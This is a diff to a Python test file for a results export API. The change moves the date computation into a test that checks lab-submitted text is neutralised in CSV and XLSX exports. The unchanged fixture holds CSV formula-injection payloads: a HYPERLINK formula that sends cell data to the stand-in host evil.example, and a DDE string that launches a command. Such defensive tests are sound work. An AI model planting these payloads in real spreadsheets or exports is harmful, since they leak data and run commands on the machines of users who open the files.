@@ -24,7 +24,6 @@ from tests.results_helpers import (  # noqa: F401 - fixtures
 )
 
 pytestmark = pytest.mark.usefixtures("pristine_catalogue")
-TODAY = dt.datetime.now(CST).date().isoformat()
 HOSTILE = {
     "name": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
     "stall": "+1+cmd|' /C calc'!A0",
@@ -42,9 +41,10 @@ def hostile_result() -> dict[str, object]:
 def test_lab_text_is_neutralised_in_csv_and_xlsx(
     client: FlaskClient, sessions: sessionmaker[Session]
 ) -> None:
+    today = dt.datetime.now(CST).date().isoformat()  # no later than the result's day
     keys = setup_market(sessions)
     assert post(client, keys.lab, hostile_result()).status_code == 201
-    url = f"/api/v1/results/export?from={TODAY}"
+    url = f"/api/v1/results/export?from={today}"
     text = client.get(url, headers=auth(keys.regulator)).get_data(as_text=True)
     rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
     cells = [c for row in rows[1:] for c in row]
